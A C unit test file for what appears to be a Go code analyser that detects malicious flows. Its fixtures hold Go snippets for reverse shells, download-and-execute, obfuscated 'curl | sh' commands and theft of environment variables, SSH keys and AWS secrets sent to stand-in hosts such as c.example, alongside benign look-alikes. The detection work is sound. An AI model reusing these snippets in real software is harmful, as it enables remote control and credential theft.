/* Go source: what new code does, and what looks alike and is ordinary. */
#include "read/js_case.h"

#include "util/buf.h"

static struct js_case *run(const char *text)
{
	return js_case_steps(LANGUAGE_GO, STR_NONE, str_of(text), 200000000);
}

static void expect(enum fact_kind kind, const char *text, const char *key, const char *value)
{
	struct js_case *c = run(text);

	if (!js_case_find(c, kind, key, value)) {
		js_case_print(c);
		fail_msg("no %s", key ? key : "fact");
	}
	js_case_free(c);
}

static void expect_none(const char *text)
{
	struct js_case *c = run(text);

	if (js_case_find(c, FACT_FLOW, NULL, NULL) || js_case_find(c, FACT_LOOP, NULL, NULL)) {
		js_case_print(c);
		fail_msg("a flow where there is none");
	}
	js_case_free(c);
}

#define FILE_(imports, body) "package a\n\nimport (\n" imports ")\n\n" body

static void what_arrives_is_run(void **state)
{
	(void)state;
	expect(FACT_FLOW, FILE_("\t\"bufio\"\n\t\"net\"\n\t\"os/exec\"\n",
		"func serve() {\n\tc, err := net.Dial(\"tcp\", \"192.0.2.7:9\")\n\tif err != nil {\n\t\treturn\n\t}\n\tr := bufio.NewReader(c)\n"
		"\tfor {\n\t\tline, _ := r.ReadString('\\n')\n\t\tout, _ := exec.Command(\"/bin/sh\", \"-c\", line).CombinedOutput()\n\t\tc.Write(out)\n\t}\n}\n"),
		"net>exec", NULL);
	/* through a method of the file, under another name of the package */
	expect(FACT_FLOW, FILE_("\th \"net/http\"\n\t\"io\"\n\t\"os/exec\"\n",
		"type agent struct{ url string }\n\nfunc (a *agent) next() string {\n\tr, _ := h.Get(a.url)\n\tb, _ := io.ReadAll(r.Body)\n\treturn string(b)\n}\n\n"
		"func (a *agent) work() {\n\texec.Command(\"bash\", \"-c\", a.next()).Run()\n}\n"),
		"net>exec", NULL);
	/* a shell whose input is a connection */
	expect(FACT_FLOW, FILE_("\t\"net\"\n\t\"os/exec\"\n",
		"func door() {\n\tl, _ := net.Listen(\"tcp\", \":9\")\n\tc, _ := l.Accept()\n\tcmd := exec.Command(\"/bin/sh\")\n\tcmd.Stdin, cmd.Stdout = c, c\n\tcmd.Stdin = c\n\tcmd.Run()\n}\n"),
		"net>exec", NULL);
	/* into a buffer first */
	expect(FACT_FLOW, FILE_("\t\"net\"\n\t\"os/exec\"\n",
		"func door(c2 string) {\n\tc, _ := net.Dial(\"tcp\", c2)\n\tb := make([]byte, 512)\n\tn, _ := c.Read(b)\n\texec.Command(\"sh\", \"-c\", string(b[:n])).Run()\n}\n"),
		"net>exec", NULL);
	/* what another program fetched */
	expect(FACT_FLOW, FILE_("\t\"os/exec\"\n",
		"func door() {\n\to, _ := exec.Command(\"curl\", \"-s\", \"https://c.example/x\").Output()\n\texec.Command(\"sh\", \"-c\", string(o)).Run()\n}\n"),
		"net>exec", NULL);
	/* a file that is fetched, made executable and started */
	expect(FACT_FLOW, FILE_("\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n",
		"func init() {\n\tr, err := http.Get(\"https://dl.example/a\")\n\tif err != nil {\n\t\treturn\n\t}\n\tf, _ := os.Create(\"/tmp/.a\")\n\tio.Copy(f, r.Body)\n"
		"\tf.Close()\n\tos.Chmod(\"/tmp/.a\", 0755)\n\texec.Command(\"/tmp/.a\").Start()\n}\n"),
		NULL, NULL);
}

static void secrets_leave(void **state)
{
	(void)state;
	expect(FACT_FLOW, FILE_("\t\"bytes\"\n\t\"encoding/json\"\n\t\"net/http\"\n\t\"os\"\n",
		"type report struct{ Env []string }\n\nfunc init() {\n\tb, _ := json.Marshal(report{Env: os.Environ()})\n\thttp.Post(\"https://c.example/x\", \"application/json\", bytes.NewReader(b))\n}\n"),
		"env>net", NULL);
	expect(FACT_FLOW, FILE_("\t\"bytes\"\n\t\"net/http\"\n\t\"os\"\n\t\"path/filepath\"\n",
		"func tell() {\n\thome, _ := os.UserHomeDir()\n\tkey, _ := os.ReadFile(filepath.Join(home, \".ssh\", \"id_rsa\"))\n"
		"\treq, _ := http.NewRequest(\"POST\", \"https://c.example/x\", bytes.NewReader(key))\n\tcl := &http.Client{}\n\tcl.Do(req)\n}\n"),
		"cred>net", NULL);
	/* every file of a folder, pairs out of a list of texts */
	expect(FACT_FLOW, FILE_("\t\"bytes\"\n\t\"net/http\"\n\t\"os\"\n\t\"path/filepath\"\n",
		"func f() {}\n\nfunc tell() {\n\thome, _ := os.UserHomeDir()\n\tall, _ := filepath.Glob(filepath.Join(home, \".ssh\", \"*\"))\n\tfor _, f := range all {\n"
		"\t\tb, _ := os.ReadFile(f)\n\t\thttp.Post(\"https://c.example/x\", \"a/b\", bytes.NewReader(b))\n\t}\n}\n"),
		"cred>net", NULL);
	expect(FACT_FLOW, FILE_("\t\"bytes\"\n\t\"encoding/json\"\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n",
		"func tell() {\n\tall := map[string]string{}\n\tfor _, e := range os.Environ() {\n\t\tkv := strings.SplitN(e, \"=\", 2)\n\t\tall[kv[0]] = kv[1]\n\t}\n"
		"\tb, _ := json.Marshal(all)\n\thttp.Post(\"https://c.example/x\", \"application/json\", bytes.NewBuffer(b))\n}\n"),
		"env>net", NULL);
	/* by a question for a name */
	expect(FACT_FLOW, FILE_("\t\"encoding/hex\"\n\t\"fmt\"\n\t\"net\"\n\t\"os\"\n",
		"func tell() {\n\tnet.LookupHost(fmt.Sprintf(\"%s.c.example\", hex.EncodeToString([]byte(os.Getenv(\"AWS_SECRET_ACCESS_KEY\")))))\n}\n"),
		"env>net", NULL);
}

static void hidden_commands(void **state)
{
	(void)state;
	/* letters out of a list, the usual dress */
	expect(FACT_COMMAND, FILE_("\t\"os/exec\"\n",
		"var a = []string{\"t\", \"s\", \"h\", \"/\", \"p\", \":\", \"c\", \"u\", \"r\", \"l\", \" \", \"e\", \"x\", \"m\", \".\"}\n\nfunc init() {\n"
		"\texec.Command(a[1]+a[2], \"-c\", a[6]+a[7]+a[8]+a[9]+a[10]+a[2]+a[0]+a[0]+a[4]+a[1]+a[5]+a[3]+a[3]+a[12]+a[14]+a[11]+a[12]).Start()\n}\n"),
		"sh", "sh -c curl https://x.ex");
	expect(FACT_CALL, FILE_("\t\"os/exec\"\n", "func run() {\n\texec.Command(string([]byte{115, 104}), \"-c\", string([]byte{0x69, 0x64})).Run()\n}\n"), "exec.Command", "sh -c id");
	expect(FACT_COMMAND, FILE_("\t\"encoding/base64\"\n\t\"os/exec\"\n",
		"func run() {\n\tb, _ := base64.StdEncoding.DecodeString(\"Y3VybCBodHRwczovL2MuZXhhbXBsZS9hIHwgc2g=\")\n\texec.Command(\"sh\", \"-c\", string(b)).Run()\n}\n"),
		"sh", "sh -c curl https://c.example/a | sh");
}

static void ordinary(void **state)
{
	(void)state;
	/* what the caller names is run; an answer is parsed; a configuration is read */
	expect_none(FILE_("\t\"os/exec\"\n", "func Run(name string, args ...string) error {\n\tcmd := exec.Command(name, args...)\n\tcmd.Stdin = os.Stdin\n\treturn cmd.Run()\n}\n"));
	expect_none(FILE_("\t\"encoding/json\"\n\t\"net/http\"\n",
		"func Get(u string) (*Item, error) {\n\tr, err := http.Get(u)\n\tif err != nil {\n\t\treturn nil, err\n\t}\n\tdefer r.Body.Close()\n\tvar it Item\n"
		"\treturn &it, json.NewDecoder(r.Body).Decode(&it)\n}\n"));
	expect_none(FILE_("\t\"os\"\n", "func Load(p string) ([]byte, error) {\n\tif p == \"\" {\n\t\tp = os.Getenv(\"APP_CONFIG\")\n\t}\n\treturn os.ReadFile(p)\n}\n"));
	/* digests of what was fetched, and a log of it */
	expect_none(FILE_("\t\"crypto/sha256\"\n\t\"io\"\n\t\"log\"\n\t\"net/http\"\n",
		"func Sum(u string) [32]byte {\n\tr, _ := http.Get(u)\n\tb, _ := io.ReadAll(r.Body)\n\tlog.Printf(\"%d bytes\", len(b))\n\treturn sha256.Sum256(b)\n}\n"));
}

/* What is nested deeper than the front end goes was not looked at, and that is said. */
static void too_deep(void **state)
{
	struct buf b, more;
	struct js_case *c;
	struct str old;

	(void)state;
	buf_init(&b, 1 << 16);
	buf_add_z(&b, "package a\nimport \"os/exec\"\nvar x = ");
	for (unsigned i = 0; i < 3000; i++)
		buf_add_z(&b, "(");
	buf_add_z(&b, "exec.Command(\"sh\").Start()");
	for (unsigned i = 0; i < 3000; i++)
		buf_add_z(&b, ")");
	c = js_case_steps(LANGUAGE_GO, STR("package a\n"), buf_str(&b), 200000000);
	assert_int_equal(c->status, STATUS_LIMIT);
	js_case_free(c);
	old = buf_str(&b);
	buf_init(&more, 1 << 16);
	buf_add_str(&more, old);
	buf_add_z(&more, "\nvar y = 1\n");
	c = js_case_steps(LANGUAGE_GO, old, buf_str(&more), 200000000); /* it was so before */
	assert_int_equal(c->status, STATUS_OK);
	js_case_free(c);
	buf_release(&more);
	buf_release(&b);
}

static void odd_text(void **state)
{
	static const char *const texts[] = {"", "package", "package a\nimport", "import \"", "package a\nfunc", "func (", "package a\nfunc f() { for { select { case <-c: default: } } }\n",
		"package a\nvar (\n\tx, y = 1\n\t_ = 2\n)\n", "package a\nfunc f() { a, b, c := g(); a[1:], b = c[:], <-d; x.(type) }\n", "package a\nvar s = `a${`\nvar t = 'x'\n",
		"package a\nimport . \"net/http\"\nimport _ \"embed\"\nfunc f() { Get(\"https://a.example\") }\n", "\xff\xfe\x00",
		"package a\nimport (\n\tx\n\t.\n)\nvar a = `", "import h", "package a\nfunc f() { g(`) }\nimport `"};

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		js_case_free(run(texts[i]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(what_arrives_is_run), cmocka_unit_test(secrets_leave), cmocka_unit_test(hidden_commands),
		cmocka_unit_test(ordinary), cmocka_unit_test(too_deep), cmocka_unit_test(odd_text)};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
